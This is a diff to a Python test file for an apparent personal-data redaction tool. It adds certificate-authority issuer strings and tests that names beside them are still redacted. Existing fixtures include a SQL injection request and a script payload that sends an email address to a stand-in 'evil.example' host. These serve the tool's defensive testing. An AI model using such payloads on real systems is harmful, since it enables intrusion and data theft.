@@ -27,6 +27,10 @@ EVIDENCE = [
     "order_id=1000234567 Content-Length: 348275 pid 31337",
     "GET /search?q=x%27%20UNION%20SELECT%20NULL,user()-- HTTP/1.1",
     "user <PERSON_1> wrote to <EMAIL_ADDRESS_2>",
+    "# Issuer: CN=Certinomis - Root CA O=Certinomis OU=0002 433998903",
+    "issuer=C = HU, O = Microsec Ltd., CN = Microsec e-Szigno Root CA 2009",
+    "i:C = GB, O = Sectigo Limited, CN = Sectigo RSA Domain Validation Secure Server CA",
+    '# Label: "Microsec e-Szigno Root CA 2009"',
     "<!DOCTYPE a [<!ATTLIST a b CDATA #IMPLIED><!ELEMENT a (#PCDATA)>]>",
 ]
 
@@ -41,6 +45,16 @@ def test_evidence_is_not_touched(guard, text):
 def test_a_real_address_inside_a_payload_is_still_found(guard):
     text = "<script>fetch('//evil.example?m=jane.roe@mail.example')</script>"
     assert b"jane.roe" not in guard.redact(text.encode(), name="p.txt").output
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["CN=Jane Whitfield, O=Acme Inc", "CN = Jane Whitfield, O = Sectigo Limited", "/O=Acme Inc/CN=Jane Whitfield",
+     "C = US, O = Jane Whitfield, CN = Acme Root CA", "CN=Jane Whitfield O=Acme Root CA",
+     "Ask Jane Whitfield about the Root CA", "Jane Whitfield, who runs Acme Root CA"],
+)  # fmt: skip
+def test_a_person_beside_an_authority_is_still_found(guard, name):
+    assert "Whitfield" not in guard.redact_text(f"subject: {name}")
 
 
 def test_our_tokens_are_absolute():
